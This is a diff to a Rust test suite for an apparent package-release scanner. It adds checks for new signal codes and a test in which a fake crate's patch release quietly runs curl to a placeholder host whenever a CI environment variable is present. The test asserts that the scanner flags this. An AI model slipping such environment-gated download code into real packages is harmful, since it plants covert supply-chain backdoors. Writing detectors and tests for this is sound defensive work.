@@ -163,8 +163,16 @@ fn a_release_report_has_facts_changes_manifest_and_signals() {
             "build-script-added",
             "new-build-dependency",
             "binary-file-added",
-            "archive-anomaly"
+            "archive-anomaly",
+            "binary-executable",
+            "bidi-control-character",
+            "invisible-character"
         ]
+    );
+    assert_eq!(
+        json["code"]["facts"]["build_script"]["present"], true,
+        "{}",
+        json["code"]
     );
 
     let changes = &json["changes"];
@@ -486,5 +494,49 @@ fn versions_that_differ_only_by_case_get_distinct_reports() {
         unique.len(),
         names.len(),
         "no two file names differ only by case: {names:?}"
+    );
+}
+
+#[test]
+fn an_environment_gated_download_added_in_a_patch_release_is_signalled_there_only() {
+    let mut reg = TestRegistry::new();
+    let toml = b"[package]\nname = \"quiet\"\nversion = \"1.0.0\"\n";
+    let benign = b"pub fn greet() -> String {\n    \"hello\".to_owned()\n}\n";
+    let attack = b"pub fn greet() -> String {\n    if std::env::var(\"CI\").is_ok() {\n        let _ = std::process::Command::new(\"curl\").arg(\"-sSf\").arg(\"https://example.invalid/x\").output();\n    }\n    \"hello\".to_owned()\n}\n";
+    add(
+        &mut reg,
+        "quiet",
+        "1.0.0",
+        "2024-01-01T00:00:00Z",
+        &[("Cargo.toml", 0o644, toml), ("src/lib.rs", 0o644, benign)],
+    );
+    add(
+        &mut reg,
+        "quiet",
+        "1.0.1",
+        "2024-02-01T00:00:00Z",
+        &[("Cargo.toml", 0o644, toml), ("src/lib.rs", 0o644, attack)],
+    );
+    let data = temp_dir();
+    sync(data.path(), &reg, &["quiet"]).assert_success();
+    let codes = |v: &str| -> Vec<String> {
+        let json: serde_json::Value =
+            serde_json::from_str(&read(data.path(), &format!("crates/qu/ie/quiet/{v}.json"))).unwrap();
+        json["signals"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .map(|s| s["code"].as_str().unwrap().to_owned())
+            .collect()
+    };
+    assert!(codes("1.0.0").is_empty(), "{:?}", codes("1.0.0"));
+    let second = codes("1.0.1");
+    for c in ["process-added", "env-gated-code"] {
+        assert!(second.iter().any(|x| x == c), "{c} missing: {second:?}");
+    }
+    let md = read(data.path(), "crates/qu/ie/quiet/1.0.1.md");
+    assert!(
+        md.contains("`src/lib.rs:3`"),
+        "the finding names its file and line: {md}"
     );
 }
